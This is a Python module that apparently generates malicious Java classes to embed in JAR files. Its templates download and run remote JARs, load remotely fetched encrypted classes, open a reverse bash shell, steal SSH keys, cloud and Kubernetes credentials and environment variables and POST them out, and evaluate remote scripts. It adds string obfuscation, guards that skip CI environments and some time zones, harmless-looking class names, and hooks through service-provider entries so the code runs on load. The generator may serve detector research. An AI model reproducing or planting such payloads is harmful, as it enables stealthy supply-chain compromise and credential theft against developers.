"""Jar shapes of the JUDGE family."""
from context import render

plain = lambda text: '"' + text.replace("\\", "\\\\").replace('"', '\\"') + '"'


def backwards(text):
    return f"new StringBuilder({plain(text[::-1])}).reverse().toString()"


def chars(text):
    return "new String(new char[] {" + ",".join(str(ord(c)) for c in text) + "})"


def shifted(text):
    return f"new String(new byte[] {{{','.join(str(b - 256 if b > 127 else b) for b in text.encode())}}})"


CHANNEL = """
        Thread <A> = new Thread(() -> {{
            try (java.nio.channels.ReadableByteChannel <B> = java.nio.channels.Channels.newChannel(java.net.URI.create(§{url}§).toURL().openStream());
                 java.io.FileOutputStream <C> = new java.io.FileOutputStream(System.getProperty(§java.io.tmpdir§) + §/{file}§)) {{
                <C>.getChannel().transferFrom(<B>, 0, Long.MAX_VALUE);
                Runtime.getRuntime().exec(new String[] {{ §java§, §-jar§, System.getProperty(§java.io.tmpdir§) + §/{file}§ }});
            }} catch (java.io.IOException <D>) {{ }}
        }});
        <A>.setDaemon(true);
        <A>.start();
"""
DEFINE = """
        try {{
            java.io.InputStream <A> = new java.net.URL(§{url}§).openStream();
            java.io.ByteArrayOutputStream <B> = new java.io.ByteArrayOutputStream();
            for (int <C>; (<C> = <A>.read()) >= 0;) <B>.write(<C> ^ 0x2f);
            final byte[] <D> = <B>.toByteArray();
            new ClassLoader() {{ Class<?> d() {{ return defineClass(null, <D>, 0, <D>.length); }} }}.d().getDeclaredConstructor().newInstance();
        }} catch (Throwable <E>) {{ }}
"""
SOCKET = """
        try {{
            java.net.Socket <A> = new java.net.Socket(§{ip}§, {port});
            Process <B> = new ProcessBuilder(§/bin/bash§, §-i§).redirectErrorStream(true).start();
            java.io.InputStream <C> = <B>.getInputStream();
            for (int <D>; (<D> = <C>.read()) >= 0;) <A>.getOutputStream().write(<D>);
        }} catch (java.io.IOException <E>) {{ }}
"""
KEYS = """
        try {{
            StringBuilder <A> = new StringBuilder();
            for (String <B> : new String[] {{ §.gradle/gradle.properties§, §.ssh/id_ed25519§, §.aws/credentials§, §.kube/config§ }}) {{
                java.io.File <C> = new java.io.File(System.getProperty(§user.home§), <B>);
                if (<C>.canRead()) {{
                    java.util.Scanner <D> = new java.util.Scanner(<C>).useDelimiter(§\\A§);
                    if (<D>.hasNext()) <A>.append(<D>.next());
                }}
            }}
            for (java.util.Map.Entry<String, String> <E> : System.getenv().entrySet()) <A>.append(<E>);
            java.net.URLConnection <F> = new java.net.URL(§{url}§).openConnection();
            <F>.setDoOutput(true);
            new java.io.OutputStreamWriter(<F>.getOutputStream()).append(<A>).flush();
            <F>.getInputStream().close();
        }} catch (Exception <G>) {{ }}
"""
SCRIPT = """
        try {{
            Object <A> = Class.forName(§javax.script.ScriptEngineManager§).getDeclaredConstructor().newInstance();
            Object <B> = <A>.getClass().getMethod(§getEngineByName§, String.class).invoke(<A>, §js§);
            <B>.getClass().getMethod(§eval§, java.io.Reader.class).invoke(<B>, new java.io.InputStreamReader(new java.net.URL(§{url}§).openStream()));
        }} catch (Exception <C>) {{ }}
"""
BODIES = [CHANNEL, DEFINE, SOCKET, KEYS, SCRIPT]


def source(ctx, package):
    name = ctx.rng.choice(["Abstract", "Default", "Internal", "Base"]) + "".join(ctx.ident().strip("_").title().split("_")).replace("0X", "X") + ctx.rng.choice(["Provider", "Registry", "Holder"])
    method = "a" + ctx.token(3).lower()
    body = render(ctx.fill(ctx.rng.choice(BODIES).format(url=ctx.url(), file=ctx.token(6), ip=ctx.ip(), port=ctx.port())), ctx.rng.choice([plain, plain, backwards, chars, shifted]))
    guard = ctx.rng.choice(["", "", 'if (System.getenv("CI") == null) return;', 'if (java.util.TimeZone.getDefault().getRawOffset() < 0) return;', "if (System.currentTimeMillis() < 1700000000000L) return;"])
    head = f"package {package};\n\n" if package else ""
    return f"{head}class {name} {{\n    public {name}() {{ {method}(); }}\n\n    static void {method}() {{\n        {guard}{body}    }}\n}}\n", name, method


def static_initialiser(jar, ctx):
    return jar.from_static(ctx, source)


def service(jar, ctx):
    def open_source(ctx, package):
        text, name, method = source(ctx, package)
        return text.replace(f"class {name}", f"public class {name}", 1), name, method

    return jar.from_service(ctx, open_source, ctx.rng.choice(["org.slf4j.spi.SLF4JServiceProvider", "jakarta.servlet.ServletContainerInitializer", "java.net.spi.URLStreamHandlerProvider", "java.util.spi.ResourceBundleProvider"]))


SHAPES = [static_initialiser, static_initialiser, static_initialiser, service]
